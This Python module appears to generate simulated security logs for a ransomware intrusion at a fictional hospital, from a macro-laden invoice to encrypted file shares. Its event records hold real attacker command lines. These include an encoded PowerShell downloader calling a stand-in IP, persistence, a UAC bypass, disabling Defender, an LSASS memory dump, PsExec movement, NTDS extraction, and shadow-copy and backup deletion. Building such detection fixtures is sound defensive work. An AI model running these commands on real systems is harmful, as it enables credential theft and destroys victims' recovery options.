"""A hospital: an invoice with a macro becomes ransomware on the file server. Times are seconds into the play."""

from . import world
from .paths import CMD, EXPLORER, OFFICE, POWERSHELL, PROGRAM, SERVICES, SYS32
from .records import connection, digest, endpoint, file, number_of, sysmon, traffic

PUBLIC = "C:\\Users\\Public\\"
WARD, FILE_SERVER = world.ACME.host("ws-0114"), world.ACME.host("FS02")
LOADER, LIBRARY = PUBLIC + "wcache.exe", PUBLIC + "wcache.dll"
STAGER, CONTROL = "203.0.113.77", "198.51.100.42"
ENCODED = (
    "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUA"
    "bgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3ADcA"
    "LwBhAC4AcABzADEAJwApAA=="
)


def invoice_with_macro():
    document = "C:\\Users\\m.ito\\Downloads\\Invoice_8841.docm"
    word = OFFICE + "WINWORD.EXE"
    return [
        file(
            3.2,
            WARD,
            document,
            61_440,
            "application/vnd.ms-word.document.macroEnabled.12",
            source="https://mail.acme.example/a/8841",
        ),
        endpoint(7.5, WARD, word, f'"{word}" /n "{document}"', parent=EXPLORER),
        endpoint(
            10.4, WARD, CMD, "cmd.exe /c start /min powershell", parent=word, parent_command=f'"{word}" /n "{document}"'
        ),
        endpoint(11.1, WARD, POWERSHELL, ENCODED, parent=CMD, original="PowerShell.EXE"),
        traffic(
            12.3,
            WARD,
            STAGER,
            80,
            sent=412,
            received=18_204,
            application="http",
            http_method="GET",
            http_host=STAGER,
            http_uri="/a.ps1",
            http_user_agent="Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.4391",
        ),
        endpoint(
            14.8,
            WARD,
            POWERSHELL,
            "powershell.exe -NoP -NonI -W Hidden -c -",
            parent=CMD,
            original="PowerShell.EXE",
            file_writes=[{"path": LOADER}, {"path": LIBRARY}],
        ),
        file(15.6, WARD, LOADER, 412_160, PROGRAM, signed=False, source=f"http://{STAGER}/w.bin"),
    ]


def foothold():
    run_key = "HKU\\S-1-5-21-1004-2210-1114\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\WCache"
    handler = "HKU\\S-1-5-21-1004-2210-1114_Classes\\ms-settings\\shell\\open\\command\\(Default)"
    rundll32 = SYS32 + "rundll32.exe"
    return [
        endpoint(18.9, WARD, LOADER, f"{LOADER} -i", parent=POWERSHELL, folder=PUBLIC),
        endpoint(
            21.0,
            WARD,
            rundll32,
            f"rundll32.exe {LIBRARY},Start",
            parent=LOADER,
            original="RUNDLL32.EXE",
            loaded_modules=[{"path": LIBRARY, "signed": False}],
            network_connections=[connection(WARD, CONTROL, 4444)],
        ),
        endpoint(
            30.2,
            WARD,
            SYS32 + "reg.exe",
            f"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v WCache /d {LOADER} /f",
            parent=LOADER,
            registry=[{"key": run_key, "value": LOADER, "operation": "set"}],
        ),
        endpoint(
            36.7,
            WARD,
            SYS32 + "schtasks.exe",
            f'schtasks /create /tn "OneDrive Sync" /sc minute /mo 15 /tr "{LOADER}" /f',
            parent=LOADER,
        ),
        endpoint(44.1, WARD, CMD, "cmd.exe /c whoami /all & net user /domain & ipconfig /all", parent=LOADER),
        endpoint(49.5, WARD, SYS32 + "nltest.exe", "nltest /domain_trusts /all_trusts", parent=CMD),
        endpoint(51.2, WARD, SYS32 + "net.exe", 'net group "Domain Admins" /domain', parent=CMD),
        endpoint(
            58.3,
            WARD,
            SYS32 + "reg.exe",
            f'reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /ve /d "cmd.exe /c {LOADER} -e" /f',
            parent=LOADER,
            registry=[{"key": handler, "value": f"cmd.exe /c {LOADER} -e", "operation": "set"}],
        ),
        endpoint(
            66.4,
            WARD,
            POWERSHELL,
            "powershell -c Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference "
            f"-ExclusionPath {PUBLIC}",
            parent=LOADER,
            level="High",
            original="PowerShell.EXE",
        ),
    ]


def beacons():
    """The loader reports every fifteen seconds or so, until the host is cut off; nobody cuts it off here."""
    return [
        traffic(
            21.2 + 15.0 * n + number_of("beacon", n) % 2000 / 1000,
            WARD,
            CONTROL,
            4444,
            sent=480 + 31 * n % 90,
            received=212,
            duration=350,
            application="tls",
            tls_ja3="72a589da586844d7f0818ce684948eea",
        )
        for n in range(13)
    ]


def stolen_credentials():
    dump = PUBLIC + "lsass_712.dmp"
    return [
        endpoint(
            75.0,
            WARD,
            LOADER,
            f"{LOADER} -m",
            parent=CMD,
            level="High",
            folder=PUBLIC,
            target_process=SYS32 + "lsass.exe",
            granted_access="0x1410",
        ),
        endpoint(
            78.6,
            WARD,
            SYS32 + "rundll32.exe",
            f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 {dump} full",
            parent=LOADER,
            level="High",
            original="RUNDLL32.EXE",
            file_writes=[{"path": dump}],
        ),
        file(80.1, WARD, dump, 52_428_800, "application/octet-stream"),
    ]


def over_to_the_file_server():
    admin, service = "ACME\\adm.sato", "C:\\Windows\\PSEXESVC.exe"
    domain = world.ACME.short.upper()
    unsigned = "C:\\ProgramData\\svchost.exe"
    remote = {"User": "NT AUTHORITY\\SYSTEM", "IntegrityLevel": "System", "CurrentDirectory": "C:\\Windows\\system32\\"}
    return [
        endpoint(
            95.3,
            WARD,
            PUBLIC + "p.exe",
            f"p.exe \\\\FS02 -accepteula -s cmd.exe /c {PUBLIC}u.bat",
            parent=CMD,
            user=admin,
            level="High",
            original="psexec.c",
            signed=True,
            content="PsExec64.exe",
            folder=PUBLIC,
            network_connections=[connection(WARD, FILE_SERVER.ip, 445)],
        ),
        sysmon(
            96.4,
            FILE_SERVER,
            1,
            domain,
            Image=service,
            CommandLine=service,
            ParentImage=SERVICES,
            ParentCommandLine=SERVICES,
            OriginalFileName="psexesvc.exe",
            Hashes=f"SHA256={digest('PSEXESVC.exe')}",
            **remote,
        ),
        sysmon(
            97.2,
            FILE_SERVER,
            1,
            domain,
            Image=CMD,
            CommandLine=f"cmd.exe /c {PUBLIC}u.bat",
            ParentImage=service,
            ParentCommandLine=service,
            OriginalFileName="Cmd.Exe",
            Hashes=f"SHA256={digest('cmd.exe')}",
            **remote,
        ),
        sysmon(98.0, FILE_SERVER, 11, domain, Image=CMD, TargetFilename=unsigned, User="NT AUTHORITY\\SYSTEM"),
        file(99.5, FILE_SERVER, unsigned, 412_160, PROGRAM, signed=False, content="wcache.exe"),
        endpoint(
            110.8,
            FILE_SERVER,
            unsigned,
            f"{unsigned} -k netsvcs",
            parent=CMD,
            signed=False,
            folder="C:\\ProgramData\\",
            content="wcache.exe",
        ),
        endpoint(
            118.2, FILE_SERVER, SYS32 + "netsh.exe", "netsh advfirewall set allprofiles state off", parent=unsigned
        ),
        endpoint(
            127.0,
            FILE_SERVER,
            SYS32 + "ntdsutil.exe",
            f'ntdsutil "ac i ntds" "ifm" "create full {PUBLIC}n" q q',
            parent=unsigned,
        ),
    ]


def ransom():
    unsigned, shares = "C:\\ProgramData\\svchost.exe", "D:\\Shares\\"
    events = [
        endpoint(150.4, FILE_SERVER, SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", parent=CMD),
        endpoint(153.1, FILE_SERVER, SYS32 + "bcdedit.exe", "bcdedit /set {default} recoveryenabled No", parent=CMD),
        endpoint(156.0, FILE_SERVER, SYS32 + "wbadmin.exe", "wbadmin delete catalog -quiet", parent=CMD),
    ]
    folders = ("Radiology", "Laboratory", "Admissions", "Pharmacy", "Personnel")
    for n in range(24):
        folder = shares + folders[n % 5]
        paths = [
            f"{folder}\\{name}_{n:02}.{kind}.lockd"
            for name, kind in (("Plan", "xlsx"), ("Letter", "docx"), ("Scan", "pdf"))
        ]
        events.append(
            endpoint(
                162.0 + 1.7 * n,
                FILE_SERVER,
                unsigned,
                f"{unsigned} -r {folder}",
                parent=CMD,
                signed=False,
                content="wcache.exe",
                file_writes=[{"path": path} for path in paths],
            )
        )
    for n, folder in enumerate(folders):
        note = f"{shares}{folder}\\HOW_TO_RESTORE_FILES.txt"
        events.append(
            sysmon(
                205.0 + 0.9 * n,
                FILE_SERVER,
                11,
                "ACME",
                Image=unsigned,
                TargetFilename=note,
                User="NT AUTHORITY\\SYSTEM",
            )
        )
    return events


def story():
    return invoice_with_macro() + foothold() + beacons() + stolen_credentials() + over_to_the_file_server() + ransom()
